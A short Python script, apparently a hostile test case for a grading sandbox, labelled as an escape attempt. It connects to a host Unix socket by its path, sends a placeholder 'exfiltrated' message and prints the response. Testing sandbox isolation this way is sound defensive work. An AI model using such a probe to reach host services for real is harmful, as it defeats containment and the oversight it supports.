# attack: escape - reach a unix socket of the host by its path
import socket
conn = socket.socket(socket.AF_UNIX)
conn.connect("/tmp/grader-hostile-test/service.sock")
conn.sendall(b"exfiltrated")
print("connected:", conn.recv(100))
